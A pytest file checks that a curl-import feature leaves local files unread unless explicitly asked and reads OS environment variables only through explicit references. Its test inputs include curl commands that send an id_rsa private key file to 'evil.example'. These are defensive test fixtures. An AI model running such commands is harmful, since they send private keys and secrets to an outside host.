"""curl import never reads a local file unasked; the OS environment is reached only by `{{$env.NAME}}`."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from app.interop.curl_import import CurlImportError, import_curl
from app.model.request_definition import RequestDefinition
from app.model.resolve import resolve_http
from app.model.scopes import RunScopes
from app.model.variables import UnresolvedVariable


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    path = tmp_path / "id_rsa"
    path.write_text("-----BEGIN OPENSSH PRIVATE KEY-----\n", encoding="utf-8")
    return path


@pytest.mark.parametrize("option", ["-d @", "--data-binary @", "--json @", "--data-urlencode @", "-T "])
def test_files_are_left_out_unless_asked(secret: Path, option: str) -> None:
    command = f"curl https://evil.example/ {option}{secret}"
    result = import_curl(command)
    assert "PRIVATE KEY" not in (result.definition.body.content or "")
    assert [found.path for found in result.files] == [secret]
    assert any(str(secret) in warning and "left out" in warning for warning in result.warnings)
    # Still the request curl would make (POST with data, PUT for -T), its body marked as left out.
    method = "PUT" if option == "-T " else "POST"
    assert result.definition.method == method
    assert str(secret) in result.definition.description and "left out" in result.definition.description
    asked = import_curl(command, read_files=True)
    assert "PRIVATE" in (asked.definition.body.content or "")
    assert asked.definition.method == method and asked.definition.description == ""


def test_multipart_parts_are_never_read_and_the_request_stays_a_post(secret: Path) -> None:
    for read_files in (False, True):
        result = import_curl(f"curl https://x.example/up -F key=@{secret} -F 'note=<{secret}'", read_files=read_files)
        assert result.definition.method == "POST"
        assert "PRIVATE" not in result.definition.body.content
        assert [found.problem for found in result.files] == ["is a multipart form part: never read"] * 2
        assert "left out" in result.definition.description


def test_get_and_an_explicit_method_win_over_a_left_out_file(secret: Path) -> None:
    assert import_curl(f"curl -G https://x.example/ -d @{secret}").definition.method == "GET"
    assert import_curl(f"curl -I -G https://x.example/ -d @{secret}").definition.method == "HEAD"
    assert import_curl(f"curl -X PATCH https://x.example/ -d @{secret}").definition.method == "PATCH"
    with pytest.raises(CurlImportError, match="only one request method"):
        import_curl(f"curl -I https://x.example/ -d @{secret}")


def test_devices_fifos_and_big_files_are_refused(tmp_path: Path) -> None:
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    big = tmp_path / "big"
    with big.open("wb") as handle:
        handle.truncate(11 * 1024 * 1024)
    for path in ("/dev/zero", str(fifo), str(big)):
        result = import_curl(f"curl https://x.example/ -d @{path}")
        assert result.files[0].problem is not None
        with pytest.raises(CurlImportError):
            import_curl(f"curl https://x.example/ -d @{path}", read_files=True)


def test_import_cli_reads_only_with_read_files(secret: Path, sluice) -> None:
    command = f"curl https://evil.example/ -d @{secret}"
    plain = sluice("import", "curl", command)
    assert plain.code == 0 and "PRIVATE KEY" not in plain.stdout and "--read-files" in plain.stderr
    asked = sluice("import", "curl", command, "--read-files")
    assert "PRIVATE KEY" in asked.stdout


def test_shell_variables_become_explicit_env_references() -> None:
    result = import_curl('curl https://api.example/ -H "Authorization: Bearer $OPENAI_API_KEY"')
    assert ("Authorization", "Bearer {{$env.OPENAI_API_KEY}}") in result.definition.headers
    request = resolve_http(result.definition, RunScopes(os_env={"OPENAI_API_KEY": "sk-1"}))
    assert ("Authorization", "Bearer sk-1") in request.headers


def test_a_plain_variable_never_reads_the_os_environment() -> None:
    definition = RequestDefinition(name="r", url="https://x.example/", headers=(("X-Key", "{{AWS_SECRET_ACCESS_KEY}}"),))
    with pytest.raises(UnresolvedVariable):
        resolve_http(definition, RunScopes(os_env={"AWS_SECRET_ACCESS_KEY": "s3cr3t"}))
